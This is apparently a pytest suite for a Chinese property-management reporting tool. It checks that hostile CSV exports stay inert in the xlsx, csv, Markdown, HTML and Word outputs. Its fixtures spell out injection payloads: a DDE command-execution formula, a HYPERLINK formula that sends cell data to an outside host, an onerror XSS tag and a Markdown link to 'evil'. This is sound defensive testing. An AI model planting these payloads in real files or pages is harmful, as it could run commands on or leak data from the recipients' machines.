"""Hostile exports end to end: nothing from an export is live in what a manager opens.

A canonical-profile export whose buildings, fee items, community ids and rejected
cells start with what a spreadsheet takes for a formula (``= + - @``, tab, CR), and
whose names carry HTML and Markdown, goes through ingest → metrics → draft → render:
the functions of the flow's Prefect tasks, called as the flow calls them. Then
every metrics.xlsx is unzipped and read with openpyxl, quarantine.csv is read with
the csv module, and review.md, review.html and review.docx are read back.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from xml.etree import ElementTree

import pytest
from docx import Document
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from yuebao.config import config_from_dict
from yuebao.errors import UsageError
from yuebao.files import scope_folders
from yuebao.inert import (
    FORMULA_START,
    inert_csv_cell,
    inert_csv_frame,
    markdown_plain,
    markdown_text,
)
from yuebao.months import Month
from yuebao.tasks.draft import draft_task
from yuebao.tasks.ingest import ingest_task
from yuebao.tasks.metrics import history_task, metrics_task
from yuebao.tasks.render import render_task
from yuebao.words import labels

MONTH = Month(2025, 9)
IMG = "<img src=x onerror=alert(1)>"
FEE_LINK = '=HYPERLINK("http://x","点我")'
# One bill per building, with the fee item at the same place; "+物业费" twice.
BUILDINGS = [IMG, '=HYPERLINK("http://x/?x="&A1,"点我")', "+1栋", "-2栋", "@3栋", "\t4栋",
             "\r5栋"]
FEE_ITEMS = [FEE_LINK, "+物业费", "-水费", "@停车费", "\t电费", "\r垃圾费", "+物业费"]
# Ingest trims the edges of every cell, so a leading tab or CR never reaches the
# metrics (test_office.py writes such names straight into a workbook); the rejected
# cells of quarantine.csv keep them, as they came.
BUILT = [b.strip() for b in BUILDINGS]
CMD = "=cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
LINKED = "[点我](http://evil)|<b>x</b>"
DATA_ONLY = [CMD, SUM, LINKED, "a_b", "Jinjiang", ".", "..", "validate"]
# created_at cells that no reader accepts: each row is quarantined with its cell, as
# read (trimmed: "\t=1+1" is read as "=1+1"). The CR inside the last one must stay
# inside its cell of quarantine.csv, or "=1+1" would start a row of its own.
BAD_CREATED = ["=1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "+1", "-1", "\t=2+2",
               "\r@SUM(A2)", "2025\r=1+1"]
AMBIGUOUS = ["12,34", "-5,00"]

TICKET_HEADER = ["ticket_id", "community", "building", "unit", "created_at",
                 "first_response_at", "resolved_at", "closed_at", "type", "category",
                 "priority", "satisfaction", "reopened", "cancelled", "description"]
BILL_HEADER = ["bill_id", "community", "building", "unit", "fee_item", "period", "due_date",
               "amount_due"]
PAYMENT_HEADER = ["payment_id", "bill_id", "paid_at", "amount"]
TICKETS_FILE = "=tickets.csv"  # a file name is a cell of quarantine.csv too

# By hand, from files.py's rule: configured ids first, then the data's in sorted order
# (".", "..", "=cmd…", "@SUM…", "Jinjiang", "[点我]…", "a_b", "validate").
FOLDERS = {
    "jinjiang": "jinjiang", "a/b": "a_b", "_portfolio": "_portfolio",
    ".": "_.", "..": "_..", CMD: "=cmd_' _C calc'!A0", SUM: "@SUM(1+1)",
    "Jinjiang": "Jinjiang~2",  # jinjiang's folder on macOS and Windows
    LINKED: "[点我](http___evil)__b_x__b_", "a_b": "a_b~2", "validate": "_validate",
}


def _ticket(ticket_id: str, community: str, building: str, day: int,
            created: str | None = None) -> list[str]:
    start = created or f"2025-09-{day:02d} 08:00:00"
    return [ticket_id, community, building, "", start, f"2025-09-{day:02d} 08:10:00",
            f"2025-09-{day:02d} 10:00:00", f"2025-09-{day + 1:02d} 08:00:00", "repair",
            "plumbing_electric", "normal", "5", "0", "false", building]


def _exports() -> dict[str, list[list[str]]]:
    tickets = [_ticket(f"T{i}", "jinjiang", b, i + 1) for i, b in enumerate(BUILDINGS)]
    tickets.append(_ticket("T-IMG-2", "jinjiang", IMG, 20))  # the top hotspot
    tickets.append(_ticket("T-AB", "a/b", "1栋", 3))
    tickets += [_ticket(f"D{i}", c, "1栋", 4) for i, c in enumerate(DATA_ONLY)]
    tickets += [_ticket(f"Q{i}", "jinjiang", "1栋", 5, created=cell)
                for i, cell in enumerate(BAD_CREATED)]
    bills = [[f"B{i}", "jinjiang", b, "", f, "2025-09", "2025-09-15", "100.00"]
             for i, (b, f) in enumerate(zip(BUILDINGS, FEE_ITEMS, strict=True))]
    bills.append(["B-CMD", CMD, "-2栋", "", "@停车费", "2025-09", "2025-09-15", "100.00"])
    bills += [[f"A{i}", "jinjiang", "1栋", "", "物业费", "2025-09", "2025-09-15", amount]
              for i, amount in enumerate(AMBIGUOUS)]
    # Paid in full but for the IMG building's bill (nothing, B0) and @3栋's (half, B4);
    # the ambiguous bills are quarantined, so nothing can pay them.
    paid = {bill[0]: "100.00" for bill in bills if bill[0].startswith("B")} | {"B4": "50.00"}
    del paid["B0"]
    payments = [[f"P-{bill}", bill, "2025-09-20 10:00:00", amount]
                for bill, amount in paid.items()]
    return {"tickets": tickets, "bills": bills, "payments": payments}


def _write(path: Path, header: list[str], rows: list[list[str]]) -> None:
    buffer = io.StringIO()  # CRLF, as Excel writes: a cell holding a CR is then quoted
    csv.writer(buffer).writerows([header, *rows])
    path.write_bytes(buffer.getvalue().encode("utf-8"))


def _config(folder: Path, communities: list[dict]) -> dict:
    # Collection targets of 50%: the two fee groups collecting nothing are the only
    # low-collection findings, so the IMG building and FEE_LINK are in the review.
    return {"communities": communities, "hotspot_min": 1, "output_dir": "out",
            "targets": {"fees.collection_rate_month": 0.5, "fees.collection_rate_ytd": 0.5},
            "sources": {"tickets": [TICKETS_FILE], "bills": ["bills.csv"],
                        "payments": ["payments.csv"]}}


CONFIGURED = [{"id": "jinjiang", "name": "锦江小区", "city": "北京"}, {"id": "a/b"}]


def _run_month(folder: Path, raw: dict) -> SimpleNamespace:
    """The month as ``review_month`` runs it, without sending."""
    config = config_from_dict(raw, folder)
    ingested = ingest_task.fn(config)
    metrics = metrics_task.fn(ingested, config, MONTH)
    history = history_task.fn(ingested, config, MONTH)
    drafts = draft_task.fn(metrics, history, config, MONTH)
    rendered = render_task.fn(drafts, metrics.documents, ingested, config, MONTH)
    return SimpleNamespace(out=folder / "out", month_dir=rendered.month_dir,
                           rendered={r.scope: r for r in rendered.reviews})


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> SimpleNamespace:
    folder: Path = tmp_path_factory.mktemp("hostile")
    exports = _exports()
    _write(folder / TICKETS_FILE, TICKET_HEADER, exports["tickets"])
    _write(folder / "bills.csv", BILL_HEADER, exports["bills"])
    _write(folder / "payments.csv", PAYMENT_HEADER, exports["payments"])
    return _run_month(folder, _config(folder, CONFIGURED))


def _book(run, scope: str):
    return load_workbook(run.month_dir / FOLDERS[scope] / "metrics.xlsx")


def _data_rows(sheet) -> list[tuple]:
    return [row for row in sheet.iter_rows(min_row=2) if row[0].value is not None]


# --- metrics.xlsx ------------------------------------------------------------------


def test_no_workbook_holds_a_formula(run):
    """Every cell of every sheet of every workbook: a value, never ``<f>``."""
    books = sorted(run.month_dir.glob("*/metrics.xlsx"))
    assert len(books) == len(FOLDERS)
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    for book in books:
        with zipfile.ZipFile(book) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            # with the overdue tickets (超期工单) and the trend (趋势); the portfolio also
            # has its communities side by side (按项目)
            assert len(sheets) == (11 if book.parent.name == "_portfolio" else 10)
            charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
            assert len(charts) >= 3, book  # the trend ×3, and bars where there are rows
            for name in charts:
                assert b"<f>" in archive.read(name)  # charts read cells, the sheets hold values
            for name in sheets:
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, (book, name)
                cells = ElementTree.fromstring(xml).iter(f"{main}c")
                assert {cell.get("t") for cell in cells} <= {"inlineStr", "n", None}
                assert not list(ElementTree.fromstring(xml).iter(f"{main}f"))


def test_buildings_hold_their_exact_text_and_figures_stay_numbers(run):
    rows = {row[0].value: row for row in _data_rows(_book(run, "jinjiang")["按楼栋"])}
    assert set(rows) == set(BUILT)
    assert all(row[0].data_type == "s" for row in rows.values())
    # due, collected for the month, rate, arrears at the end: 100 yuan billed each,
    # nothing paid for IMG's bill, 50 of 100 for @3栋, the rest in full.
    figures = {name: [cell.value for cell in row[1:]] for name, row in rows.items()}
    assert figures[IMG] == bridged(100.0, 0, 0.0, 100.0)
    assert figures["@3栋"] == bridged(100.0, 50.0, 0.5, 50.0)
    assert figures["5栋"] == bridged(100.0, 100.0, 1.0, 0)
    for row in rows.values():
        assert all(cell.data_type == "n" for cell in row[1:])
        assert all(isinstance(cell.value, int | float) for cell in row[1:])
    # A formula-like text is also marked as Excel marks text typed after a quote.
    assert rows["+1栋"][0].quotePrefix and not rows[IMG][0].quotePrefix


def test_fee_items_hold_their_exact_text(run):
    rows = {row[0].value: [c.value for c in row[1:]]
            for row in _data_rows(_book(run, "jinjiang")["按收费项目"])}
    assert rows == {  # "+物业费" is billed twice (200 yuan), "\t电费" half paid
        FEE_LINK: bridged(100.0, 0, 0.0, 100.0), "+物业费": bridged(200.0, 200.0, 1.0, 0),
        "-水费": bridged(100.0, 100.0, 1.0, 0), "@停车费": bridged(100.0, 100.0, 1.0, 0),
        "电费": bridged(100.0, 50.0, 0.5, 50.0), "垃圾费": bridged(100.0, 100.0, 1.0, 0)}


def bridged(due: float, collected: float, rate: float, end: float) -> list[float]:
    """A group's row: its month figures, then the arrears bridge. Every bill here is
    due in the month, so nothing was owed at the start and all arrears are new."""
    return [due, collected, rate, end, 0, 0, end]


def test_hotspots_and_the_portfolio_name_data_communities_as_text(run):
    hotspots = {row[0].value: row for row in _data_rows(_book(run, "jinjiang")["报事热点"])}
    assert set(hotspots) == set(BUILT)
    assert hotspots[IMG][2].value == 2 and hotspots[IMG][2].data_type == "n"
    portfolio = _book(run, "_portfolio")
    buildings = [(r[0].value, r[1].value) for r in _data_rows(portfolio["按楼栋"])]
    assert (CMD, "-2栋") in buildings
    communities = {r[0].value for r in _data_rows(portfolio["报事热点"])}
    assert {CMD, SUM, LINKED, "锦江小区"} <= communities
    cell = next(r[0] for r in _data_rows(portfolio["报事热点"]) if r[0].value == CMD)
    assert cell.data_type == "s" and cell.quotePrefix


# --- quarantine.csv ----------------------------------------------------------------


def _quarantine(run) -> list[dict[str, str]]:
    with open(run.month_dir / "quarantine.csv", encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_quarantine_cells_are_quoted_and_raw_rows_round_trip(run):
    rows = _quarantine(run)
    assert len(rows) == len(BAD_CREATED) + len(AMBIGUOUS)
    for row in rows:
        for column in ("file", "table", "reason", "code", "field", "value"):
            assert not row[column].startswith(FORMULA_START), (column, row[column])
    assert sorted(r["value"] for r in rows) == sorted(
        ["'=1+1", "'@SUM(A1)", "'=cmd|' /C calc'!A0", "'+1", "'-1", "'=2+2", "'@SUM(A2)",
         "2025\r=1+1", "12,34", "'-5,00"])
    assert {r["file"] for r in rows} == {"'" + TICKETS_FILE, "bills.csv"}
    # The row as read: every cell trimmed at its edges.
    written = {(table, row[0]): {k: v.strip() for k, v in zip(header, row, strict=True)}
               for table, header in (("tickets", TICKET_HEADER), ("bills", BILL_HEADER))
               for row in _exports()[table]}
    for row in rows:
        original = json.loads(row["raw"])  # JSON starts with "{": never a formula
        assert row["raw"].startswith("{")
        key = "ticket_id" if row["table"] == "tickets" else "bill_id"
        assert original == written[(row["table"], original[key])]


def test_an_ambiguous_amount_is_quarantined_with_its_reason(run):
    reason = labels("zh")["quarantine"]["ambiguous_amount"]
    rows = [r for r in _quarantine(run) if r["table"] == "bills"]
    assert {(r["value"], r["code"], r["field"], r["reason"]) for r in rows} == {
        ("12,34", "ambiguous_amount", "amount_due", reason),
        ("'-5,00", "ambiguous_amount", "amount_due", reason)}


# --- folders -----------------------------------------------------------------------


def test_every_scope_has_its_own_folder_inside_the_month(run):
    assert sorted(p.name for p in run.out.iterdir()) == ["2025-09"]
    assert sorted(p.name for p in run.month_dir.iterdir()) == sorted(
        [*FOLDERS.values(), "quarantine.csv", "data_quality.json"])
    assert {scope: r.folder for scope, r in run.rendered.items()} == FOLDERS
    for scope, folder in FOLDERS.items():  # nothing was overwritten by another scope
        document = json.loads((run.month_dir / folder / "metrics.json").read_text("utf-8"))
        assert document["community"] == scope


def test_scope_folders_by_hand():
    assert scope_folders(["a/b", "Allston / Brighton", "锦江", "A_B", "a_b", "_portfolio",
                          "", ".x", "quarantine.csv", "a_b~2", "a_B"]) == {
        "a/b": "a_b", "Allston / Brighton": "Allston _ Brighton", "锦江": "锦江",
        "A_B": "A_B~2", "a_b": "a_b~3", "_portfolio": "_portfolio", "": "_",
        ".x": "_.x", "quarantine.csv": "_quarantine.csv", "a_b~2": "a_b~2~2",
        "a_B": "a_B~4"}
    decomposed, composed = "e\u0301", "\u00e9"  # é as e + accent, and as one character
    assert scope_folders([composed, decomposed]) == {composed: composed,
                                                     decomposed: composed + "~2"}
    assert unicodedata.is_normalized("NFC", scope_folders([decomposed])[decomposed])


@pytest.mark.parametrize(("ids", "named"), [
    (["a/b", "a_b"], ["'a/b'", "'a_b'", "folder 'a_b'"]),
    (["jinjiang", "Jinjiang"], ["'jinjiang'", "'Jinjiang'"]),
    (["e\u0301", "\u00e9"], ["'e\u0301'", "'\u00e9'"]),
])
def test_configured_ids_sharing_a_folder_are_a_config_error(ids, named):
    with pytest.raises(UsageError) as raised:
        config_from_dict({"communities": [{"id": i} for i in ids]}, Path("."))
    assert all(part in str(raised.value) for part in named), raised.value


@pytest.mark.parametrize("community_id", ["_portfolio", ".", "..", "validate", "VALIDATE",
                                          ".2025-09.staging", "quarantine.csv"])
def test_a_configured_id_with_a_reserved_folder_is_a_config_error(community_id):
    with pytest.raises(UsageError, match="keeps for itself") as raised:
        config_from_dict({"communities": [{"id": community_id}]}, Path("."))
    assert repr(community_id) in str(raised.value)


def test_a_data_community_named_portfolio_stops_the_run(tmp_path):
    _write(tmp_path / TICKETS_FILE, TICKET_HEADER, [_ticket("T1", "_portfolio", "1栋", 2)])
    _write(tmp_path / "bills.csv", BILL_HEADER, [])
    _write(tmp_path / "payments.csv", PAYMENT_HEADER, [])
    with pytest.raises(UsageError, match="'_portfolio', the name yuebao keeps"):
        _run_month(tmp_path, _config(tmp_path, [{"id": "jinjiang"}]))
    assert not (tmp_path / "out").exists()


# --- review.md, review.html, review.docx -------------------------------------------


class _Html(HTMLParser):
    """The tags and the text of an HTML page, as a browser would see them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.images: list[dict] = []  # the attributes of each <img>
        self.text: list[str] = []
        self.title = ""
        self._in_title = False
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "img":
            self.images.append(dict(attrs))
        self._in_title = tag == "title"

    def handle_endtag(self, tag):
        self._in_title = False

    def handle_data(self, data):
        self.text.append(data)
        if self._in_title:
            self.title += data


def _docx_text(path: Path) -> tuple[str, str]:
    document = Document(str(path))
    parts = [p.text for p in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts), document.core_properties.title


SAFE_TAGS = {"html", "head", "meta", "title", "body", "table", "tr", "td", "h1", "h2", "h3",
             "p", "ol", "ul", "li", "thead", "tbody", "th", "blockquote", "strong", "em",
             "style", "span", "img"}  # style: the page's own font and print rules (checked below)


def _only_our_charts(html: _Html) -> None:
    """Every picture is one of the scope's own charts, with nothing that can act."""
    for image in html.images:
        assert set(image) == {"width", "style", "src", "alt"}, image
        assert re.fullmatch(r"charts/[a-z_]+\.png", image["src"]), image


def test_html_from_an_export_is_text_in_the_draft_email_and_word_file(run):
    folder = run.month_dir / "jinjiang"
    markdown = (folder / "review.md").read_text("utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown and "<img" not in markdown
    assert f"收费项目“{FEE_LINK}”本月收缴率 0.00%" in markdown  # not live in Markdown
    page = (folder / "review.html").read_text("utf-8")
    html = _Html(page)
    assert set(html.tags) <= SAFE_TAGS
    _only_our_charts(html)
    text = "".join(html.text)
    assert IMG in text and FEE_LINK in text
    assert "&lt;" not in text and "&amp;amp;" not in page  # escaped once, not twice
    # The buildings' names reach the chart's alt text (an attribute) as the same text.
    alt = next(image["alt"] for image in html.images if image["src"] == "charts/buildings.png")
    assert IMG in alt and BUILDINGS[1] in alt and "&lt;" not in alt and "&amp;" not in alt
    style = page.split("<style>", 1)[1].split("</style>", 1)[0]
    assert IMG not in style and FEE_LINK not in style and "<" not in style
    words, _ = _docx_text(folder / "review.docx")
    assert IMG in words and FEE_LINK in words and "&lt;" not in words


def test_links_and_table_pipes_from_an_export_stay_text(run):
    folder = run.month_dir / FOLDERS["_portfolio"]
    markdown = (folder / "review.md").read_text("utf-8")
    line = next(x for x in markdown.splitlines()
                if x.startswith("| ") and "| \\[点我\\]" in x)
    # Parsed as the email parses it: one row of eight cells (rank, then the name).
    tokens = MarkdownIt("commonmark", {"html": False}).enable("table").parse(
        "| 排名 | 项目 | 1 | 2 | 3 | 4 | 5 | 6 |\n|---|---|---|---|---|---|---|---|\n"
        + line + "\n")
    cells = [i for i, t in enumerate(tokens) if t.type == "td_open"]
    assert len(cells) == 8
    assert tokens[cells[1] + 1].children[0].content == LINKED
    html = _Html((folder / "review.html").read_text("utf-8"))
    assert set(html.tags) <= SAFE_TAGS and LINKED in "".join(html.text)
    _only_our_charts(html)
    # A community's name from the export reaches the portfolio's chart alt text as text.
    alts = " ".join(image["alt"] for image in html.images)
    assert LINKED in alts


def test_titles_are_the_plain_name_and_the_subject_is_not_escaped(run):
    scope = run.rendered[LINKED]
    folder = run.month_dir / scope.folder
    title = f"{LINKED} 2025年9月工作总结（草稿）"
    assert _Html((folder / "review.html").read_text("utf-8")).title == title
    assert _docx_text(folder / "review.docx")[1] == title
    assert scope.subject == f"【月报草稿】{LINKED} 2025年9月工作总结"


# --- the rules themselves ------------------------------------------------------------


def test_inert_csv_cell_quotes_only_formula_starts():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert inert_csv_cell(start + "1") == "'" + start + "1"
    for safe in ("1,234.50", "锦江小区", "'=x", " =1", "{\"a\": 1}", ""):
        assert inert_csv_cell(safe) == safe


def test_inert_csv_frame_touches_only_the_columns_named():
    import pandas as pd

    frame = pd.DataFrame({"value": ["=1+1", "ok", None], "raw": ["=x", "-y", "z"],
                          "line": [1, 2, 3]})
    out = inert_csv_frame(frame, ["value"])
    assert out["value"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(out["value"][2])
    assert out["raw"].tolist() == ["=x", "-y", "z"] and out["line"].tolist() == [1, 2, 3]
    assert frame["value"][0] == "=1+1"  # a copy: the caller's frame is unchanged


@pytest.mark.parametrize("text", [IMG, FEE_LINK, LINKED, "a|b\\|c", "`x`", "*x*", "A&amp;B",
                                  "1. 楼", "-2栋", "# 3栋", "> q", "~~~", "___", "1.5栋"])
def test_markdown_text_reads_back_as_written(text):
    escaped = markdown_text(text)
    assert not {"<", ">"} & set(escaped)
    assert markdown_plain(escaped) == text
    # In a paragraph the email shows the same text, in one paragraph, and no tag but <p>.
    rendered = MarkdownIt("commonmark", {"html": False}).render(escaped)
    assert rendered.startswith("<p>") and rendered.count("<") == 2


def test_markdown_text_puts_line_breaks_on_one_line():
    assert markdown_text("1栋\n# 标题\r\n<script>") == "1栋 # 标题  &lt;script&gt;"
